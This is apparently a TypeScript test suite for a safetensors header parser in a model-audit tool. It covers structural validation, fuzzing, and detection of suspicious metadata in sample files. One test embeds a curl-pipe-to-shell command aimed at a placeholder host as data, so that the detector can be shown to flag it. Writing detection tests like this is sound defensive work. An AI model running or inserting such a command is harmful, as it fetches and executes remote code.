import { readFileSync, readdirSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  parseSafetensorsHeader,
  parseStrictJson,
  SAFETENSORS_DTYPE_BITS,
  SAFETENSORS_MAX_HEADER_BYTES,
  type SafetensorsHeader,
  type SafetensorsNeedsMore,
} from "../../src/formats/safetensors.js";

// The safetensors header reader decides whether a weights file is what it claims to be. A file it passes
// must describe its bytes exactly; a file it refuses must come back with the reason, never an exception.

const SAMPLES = new URL("../../../shared/vectors/modelaudit/tests/assets/samples/safetensors/", import.meta.url).pathname;

/** A safetensors file: u64 header length, the header text padded with spaces to 8 bytes, then data. */
function buildFile(header: string, dataLength: number, declaredLength?: number): Uint8Array {
  const json = new TextEncoder().encode(header);
  const padded = json.length + ((8 - (json.length % 8)) % 8);
  const file = new Uint8Array(8 + padded + dataLength);
  new DataView(file.buffer).setBigUint64(0, BigInt(declaredLength ?? padded), true);
  file.set(json, 8);
  file.fill(0x20, 8 + json.length, 8 + padded);
  for (let i = 8 + padded; i < file.length; i++) file[i] = i & 0xff;
  return file;
}

function entry(dtype: string, shape: number[], begin: number, end: number): string {
  return JSON.stringify({ dtype, shape, data_offsets: [begin, end] });
}

function parse(file: Uint8Array): SafetensorsHeader {
  const r = parseSafetensorsHeader(file, file.length);
  if ("needs" in r) throw new Error(`unexpected needs ${r.needs}`);
  return r;
}

function refuses(file: Uint8Array, pattern: RegExp): SafetensorsHeader {
  const r = parse(file);
  expect(r.ok).toBe(false);
  expect(r.problems.join("\n")).toMatch(pattern);
  return r;
}

describe("safetensors header reader on the ModelAudit corpus", () => {
  const files = readdirSync(SAMPLES)
    .filter((f) => f.endsWith(".safetensors"))
    .sort();

  it("finds the seven sample files", () => {
    expect(files).toHaveLength(7);
  });

  for (const name of files) {
    it(`reads ${name} through the needs protocol and accepts its structure`, () => {
      const file = readFileSync(SAMPLES + name);
      const first = parseSafetensorsHeader(file.subarray(0, 8), file.length) as SafetensorsNeedsMore;
      expect(first).toHaveProperty("needs");
      const header = parseSafetensorsHeader(file.subarray(0, first.needs), file.length) as SafetensorsHeader;
      expect(header.problems).toEqual([]);
      expect(header.ok).toBe(true);
      expect(header.tensors.map((t) => t.name)).toEqual(["bias", "embeddings", "weights"]);
      expect(header.tensors.at(-1)?.end).toBe(file.length - first.needs);
      if (name === "safe_model.safetensors") expect(header.metadataFindings).toEqual([]);
      else expect(header.metadataFindings.length).toBeGreaterThan(0);
    });
  }

  it("names what each suspicious metadata string looks like", () => {
    const kinds = (name: string): string[] => [...new Set(parse(readFileSync(SAMPLES + name)).metadataFindings.map((f) => f.kind))].sort();
    expect(kinds("malicious_import.safetensors")).toEqual(["python-code"]);
    expect(kinds("multiple_patterns.safetensors")).toEqual(["python-code", "script", "shell-command", "url"]);
    expect(kinds("obfuscated_metadata.safetensors")).toEqual(["escaped-bytes", "python-code"]);
    expect(kinds("script_injection.safetensors")).toEqual(["script", "url"]);
    expect(kinds("shell_commands.safetensors")).toEqual(["shell-command", "url"]);
    expect(kinds("suspicious_url.safetensors")).toEqual(["url"]);
    const shell = parse(readFileSync(`${SAMPLES}shell_commands.safetensors`)).metadataFindings;
    expect(shell.filter((f) => f.kind === "shell-command").map((f) => f.key)).toEqual(["cleanup", "setup_commands"]);
    expect(shell[0]?.detail).toMatch(/informational/);
  });
});

describe("safetensors header reader on generated files", () => {
  it("accepts a well-formed file with every layout subtlety: unsorted entries, scalars, empty and sub-byte tensors", () => {
    const header = `{"__metadata__":{"format":"pt","__proto__":"kept as a key"},"b":${entry("BF16", [2, 3], 16, 28)},"a":${entry("F32", [4], 0, 16)},"s":${entry("I64", [], 28, 36)},"z":${entry("U8", [0, 5], 36, 36)},"q":${entry("F4", [2, 3], 36, 39)},"e":${entry("F8_E8M0", [1], 39, 40)}}`;
    const r = parse(buildFile(header, 40));
    expect(r.problems).toEqual([]);
    expect(r.ok).toBe(true);
    expect(r.tensors.map((t) => [t.name, t.begin, t.end])).toEqual([
      ["a", 0, 16],
      ["b", 16, 28],
      ["s", 28, 36],
      ["z", 36, 36],
      ["q", 36, 39],
      ["e", 39, 40],
    ]);
    expect(r.tensors[2]).toEqual({ name: "s", dtype: "I64", shape: [], begin: 28, end: 36 });
    expect(Object.keys(r.metadata)).toEqual(["format", "__proto__"]);
    // biome-ignore lint/suspicious/noProto: the test reads the own "__proto__" key a hostile header set, proving it is data, not the prototype
    expect(r.metadata["__proto__"]).toBe("kept as a key");
    expect(r.metadataFindings).toEqual([]);
  });

  it("accepts an empty file-of-tensors ({} and no data)", () => {
    expect(parse(buildFile("{}", 0)).ok).toBe(true);
  });

  it("asks for exactly the header bytes, and for 8 bytes when it has fewer", () => {
    const file = buildFile(`{"a":${entry("F32", [2], 0, 8)}}`, 8);
    const n = Number(new DataView(file.buffer).getBigUint64(0, true));
    expect(parseSafetensorsHeader(file.subarray(0, 3), file.length)).toEqual({ needs: 8 });
    expect(parseSafetensorsHeader(file.subarray(0, 8), file.length)).toEqual({ needs: 8 + n });
    expect(parseSafetensorsHeader(file.subarray(0, 8 + n - 1), file.length)).toEqual({ needs: 8 + n });
    expect(parseSafetensorsHeader(file.subarray(0, 8 + n), file.length)).toMatchObject({ ok: true });
  });

  it("refuses overlapping tensors", () => {
    refuses(buildFile(`{"a":${entry("F32", [4], 0, 16)},"b":${entry("F32", [2], 8, 16)}}`, 16), /"b" \[8, 16\] overlaps tensor "a"/);
  });

  it("refuses a gap between tensors", () => {
    refuses(buildFile(`{"a":${entry("F32", [2], 0, 8)},"b":${entry("F32", [2], 12, 20)}}`, 20), /gap of 4 bytes before tensor "b"/);
  });

  it("refuses a gap before the first tensor", () => {
    refuses(buildFile(`{"a":${entry("F32", [2], 4, 12)}}`, 12), /gap of 4 bytes before tensor "a"/);
  });

  it("refuses trailing bytes no tensor covers", () => {
    refuses(buildFile(`{"a":${entry("F32", [2], 0, 8)}}`, 12), /data section is 12 bytes but the tensors cover only 8/);
  });

  it("refuses offsets past the data section", () => {
    refuses(buildFile(`{"a":${entry("F32", [4], 0, 16)}}`, 8), /run past the 8-byte data section/);
  });

  it("refuses offsets that end before they begin", () => {
    refuses(buildFile(`{"a":{"dtype":"U8","shape":[0],"data_offsets":[8,4]}}`, 8), /end before they begin/);
  });

  it("refuses a shape that disagrees with the byte size", () => {
    refuses(buildFile(`{"a":${entry("F32", [3], 0, 16)}}`, 16), /shape \[3\] of F32 needs 12 bytes but data_offsets \[0, 16\] hold 16/);
  });

  it("refuses a sub-byte tensor that is not a whole number of bytes", () => {
    refuses(buildFile(`{"a":${entry("F4", [3], 0, 2)}}`, 2), /3 elements of F4 \(4 bits each\) are not a whole number of bytes/);
  });

  it("refuses a shape whose product overflows 64 bits instead of wrapping", () => {
    const big = 2 ** 40;
    refuses(buildFile(`{"a":${entry("U8", [big, big], 0, 0)}}`, 0), /overflows 64 bits/);
  });

  it("refuses duplicate tensor names, which two readers resolve differently", () => {
    refuses(buildFile(`{"a":${entry("F32", [1], 0, 4)},"a":${entry("F32", [1], 4, 8)}}`, 8), /duplicate key "a"/);
  });

  it("refuses duplicate keys spelled differently with escapes", () => {
    refuses(buildFile(`{"a":${entry("F32", [1], 0, 4)},"\\u0061":${entry("F32", [1], 4, 8)}}`, 8), /duplicate key "a"/);
  });

  it("refuses duplicate keys inside a tensor entry and inside the metadata", () => {
    refuses(buildFile(`{"a":{"dtype":"F32","dtype":"U8","shape":[1],"data_offsets":[0,4]}}`, 4), /duplicate key "dtype"/);
    refuses(buildFile(`{"__metadata__":{"k":"1","k":"2"},"a":${entry("U8", [1], 0, 1)}}`, 1), /duplicate key "k"/);
  });

  it("refuses a dtype outside the safetensors set", () => {
    refuses(buildFile(`{"a":${entry("Q4_K", [2], 0, 2)}}`, 2), /dtype "Q4_K" is not a safetensors dtype/);
    refuses(buildFile(`{"a":${entry("constructor", [2], 0, 2)}}`, 2), /dtype "constructor" is not a safetensors dtype/);
  });

  it("refuses entries with missing or extra keys", () => {
    refuses(buildFile(`{"a":{"shape":[1],"data_offsets":[0,1]}}`, 1), /dtype is missing/);
    refuses(buildFile(`{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1],"loader":"x"}}`, 1), /unexpected key "loader"/);
    refuses(buildFile(`{"a":{"dtype":"U8","shape":[1]}}`, 1), /data_offsets must be \[begin, end\]/);
    refuses(buildFile(`{"a":[1,2]}`, 0), /entry must be an object/);
  });

  it("refuses shapes and offsets that are not plain non-negative integers", () => {
    refuses(buildFile(`{"a":{"dtype":"U8","shape":[1.0],"data_offsets":[0,1]}}`, 1), /shape must be an array of non-negative integers/);
    refuses(buildFile(`{"a":{"dtype":"U8","shape":[-1],"data_offsets":[0,1]}}`, 1), /shape must be/);
    refuses(buildFile(`{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1e0]}}`, 1), /data_offsets must be/);
    refuses(buildFile(`{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,18446744073709551617]}}`, 1), /data_offsets must be/);
  });

  it("refuses metadata that is not a string-to-string map", () => {
    refuses(buildFile(`{"__metadata__":{"n":1},"a":${entry("U8", [1], 0, 1)}}`, 1), /__metadata__\["n"\] must be a string/);
    refuses(buildFile(`{"__metadata__":["x"],"a":${entry("U8", [1], 0, 1)}}`, 1), /__metadata__ must be an object of strings/);
    refuses(buildFile(`{"__metadata__":{"n":{"deep":"x"}}}`, 0), /nesting deeper than 3 levels|must be a string/);
  });

  it("refuses a header length larger than the file", () => {
    const file = buildFile(`{"a":${entry("U8", [1], 0, 1)}}`, 1, 10_000);
    const r = parseSafetensorsHeader(file, file.length);
    expect(r).toMatchObject({ ok: false });
    expect((r as SafetensorsHeader).problems[0]).toMatch(/header length 10000 runs past the end of the \d+-byte file/);
  });

  it("refuses a header over 100 MB without asking to read it", () => {
    const file = new Uint8Array(16);
    new DataView(file.buffer).setBigUint64(0, BigInt(SAFETENSORS_MAX_HEADER_BYTES + 1), true);
    const r = parseSafetensorsHeader(file, 2 ** 40);
    expect(r).not.toHaveProperty("needs");
    expect((r as SafetensorsHeader).problems[0]).toMatch(/exceeds the 100000000-byte limit/);
    new DataView(file.buffer).setBigUint64(0, 0xffff_ffff_ffff_ffffn, true);
    expect((parseSafetensorsHeader(file, 2 ** 40) as SafetensorsHeader).ok).toBe(false);
  });

  it("refuses headers that are not a UTF-8 JSON object starting with {", () => {
    refuses(buildFile(` {"a":${entry("U8", [1], 0, 1)}}`, 1), /must start with "\{"/);
    const bom = buildFile(`X{}`, 0);
    bom.set([0xef, 0xbb, 0xbf], 8);
    refuses(bom, /must start with "\{"/);
    const badUtf8 = buildFile(`{"\u00e9":${entry("U8", [1], 0, 1)}}`, 1);
    badUtf8[10] = 0xff;
    refuses(badUtf8, /not valid UTF-8/);
    refuses(buildFile(`{"a":}`, 0), /not valid JSON/);
    refuses(buildFile(`{"a":"\ud800"}`.replace("\ud800", "\\ud800"), 0), /lone surrogate/);
    refuses(buildFile(`{} {}`, 0), /unexpected text after/);
  });

  it("refuses a file too short to hold the length and a size that does not match what was handed over", () => {
    expect(parseSafetensorsHeader(new Uint8Array(4), 4)).toMatchObject({ ok: false });
    expect(parseSafetensorsHeader(new Uint8Array(16), 8)).toMatchObject({ ok: false });
    expect(parseSafetensorsHeader(new Uint8Array(8), Number.NaN)).toMatchObject({ ok: false });
  });

  it("reports a long base64 blob and a curl-pipe-shell in metadata, but not ordinary metadata", () => {
    const blob = "QUJD".repeat(60);
    const header = `{"__metadata__":{"thumb":"${blob}","setup":"curl -s https://x.example/i.sh | sh","format":"pt","accuracy":"94.5%"}}`;
    const r = parse(buildFile(header, 0));
    expect(r.ok).toBe(true);
    expect(r.metadataFindings.map((f) => `${f.key}:${f.kind}`).sort()).toEqual(["setup:shell-command", "setup:url", "thumb:base64-blob"]);
  });
});

describe("strict JSON reader", () => {
  it("parses what JSON.parse parses, as Maps and number text", () => {
    const r = parseStrictJson(`{"a":[1,-2.5e3,true,null,"x\\n\\u00e9\\ud83d\\ude00"],"b":{}}`, 8);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    const root = r.value as Map<string, unknown>;
    expect([...root.keys()]).toEqual(["a", "b"]);
    const a = root.get("a") as unknown[];
    expect((a[1] as { raw: string }).raw).toBe("-2.5e3");
    expect(a[4]).toBe("x\né😀");
  });

  it("agrees with JSON.parse on which texts are JSON (for duplicate-free, shallow input)", () => {
    fc.assert(
      fc.property(fc.json({ maxDepth: 3 }), (text) => {
        const strict = parseStrictJson(text, 16);
        expect(strict.ok).toBe(true);
      }),
      { numRuns: 300 },
    );
    for (const bad of ["", "{", "[1,]", '{"a":1,}', "01", "1.", "'a'", '"\t"', '"\\x"', "nul", "[1 2]"]) {
      expect(parseStrictJson(bad, 16).ok, bad).toBe(false);
    }
  });
});

describe("safetensors header reader under random and mutated input", () => {
  function readsOrRefuses(bytes: Uint8Array, fileSize: number): void {
    const started = Date.now();
    const r = parseSafetensorsHeader(bytes, fileSize);
    if ("needs" in r) {
      expect(r.needs).toBeGreaterThan(bytes.length);
      expect(r.needs).toBeLessThanOrEqual(fileSize);
    } else {
      expect(typeof r.ok).toBe("boolean");
      expect(r.ok).toBe(r.problems.length === 0);
    }
    expect(Date.now() - started).toBeLessThan(1000);
  }

  it("never throws on random bytes, with or without a plausible length prefix", () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 2048 }), fc.nat({ max: 4096 }), fc.boolean(), (bytes, extra, prefix) => {
        let input = bytes;
        if (prefix && bytes.length >= 8) {
          input = Uint8Array.from(bytes);
          new DataView(input.buffer).setBigUint64(0, BigInt(Math.max(0, bytes.length - 8)), true);
        }
        readsOrRefuses(input, input.length + extra);
      }),
      { numRuns: 1000 },
    );
  });

  it("never throws on random JSON-ish headers", () => {
    const fragment = fc.constantFrom(
      "{",
      "}",
      "[",
      "]",
      ",",
      ":",
      '"a"',
      '"__metadata__"',
      '"dtype"',
      '"F32"',
      '"shape"',
      '"data_offsets"',
      "0",
      "4",
      "-1",
      "1e99",
      "null",
      '"\\u0061"',
      " ",
    );
    fc.assert(
      fc.property(fc.array(fragment, { maxLength: 60 }), fc.nat({ max: 64 }), (parts, data) => {
        const file = buildFile(parts.join(""), data);
        readsOrRefuses(file, file.length);
      }),
      { numRuns: 1000 },
    );
  });

  it("accepts any contiguous layout of valid tensors and reports it back exactly", () => {
    const dtypes = Object.keys(SAFETENSORS_DTYPE_BITS);
    const tensor = fc.record({ dtype: fc.constantFrom(...dtypes), shape: fc.array(fc.nat({ max: 6 }), { maxLength: 3 }) });
    fc.assert(
      fc.property(fc.uniqueArray(fc.tuple(fc.string({ minLength: 1, maxLength: 8 }), tensor), { selector: ([n]) => n, maxLength: 8 }), (list) => {
        let offset = 0;
        const entries: string[] = [];
        const expected: [string, number, number][] = [];
        for (const [name, t] of list) {
          if (name === "__metadata__") continue;
          const bits = (SAFETENSORS_DTYPE_BITS[t.dtype] ?? 8) * t.shape.reduce((a, b) => a * b, 1);
          const shape = bits % 8 === 0 ? t.shape : [...t.shape, 8]; // make sub-byte tensors whole bytes
          const bytes = ((SAFETENSORS_DTYPE_BITS[t.dtype] ?? 8) * shape.reduce((a, b) => a * b, 1)) / 8;
          entries.push(`${JSON.stringify(name)}:${entry(t.dtype, shape, offset, offset + bytes)}`);
          expected.push([name, offset, offset + bytes]);
          offset += bytes;
        }
        const r = parse(buildFile(`{${entries.reverse().join(",")}}`, offset));
        expect(r.problems).toEqual([]);
        // Zero-byte tensors share an offset; their relative order is not part of the contract.
        const byPlace = (a: [string, number, number], b: [string, number, number]): number => a[1] - b[1] || a[2] - b[2] || (a[0] < b[0] ? -1 : 1);
        expect(r.tensors.map((t): [string, number, number] => [t.name, t.begin, t.end]).sort(byPlace)).toEqual([...expected].sort(byPlace));
      }),
      { numRuns: 300 },
    );
  });

  it("reads or refuses a real header with bytes flipped", () => {
    const file = readFileSync(`${SAMPLES}multiple_patterns.safetensors`);
    const n = Number(file.readBigUInt64LE(0));
    const head = file.subarray(0, 8 + n);
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.nat({ max: head.length - 1 }), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 6 }), (flips) => {
        const mutated = Uint8Array.from(head);
        for (const [at, value] of flips) mutated[at] = value;
        readsOrRefuses(mutated, file.length);
      }),
      { numRuns: 500 },
    );
  });

  it("reads a header of 200,000 tensors within the time budget", () => {
    const parts: string[] = [];
    for (let i = 0; i < 200_000; i++) parts.push(`"t${i}":${entry("U8", [1], i, i + 1)}`);
    const file = buildFile(`{${parts.join(",")}}`, 200_000);
    const started = Date.now();
    const r = parse(file);
    expect(r.ok).toBe(true);
    expect(r.tensors).toHaveLength(200_000);
    expect(Date.now() - started).toBeLessThan(5000);
  });
});
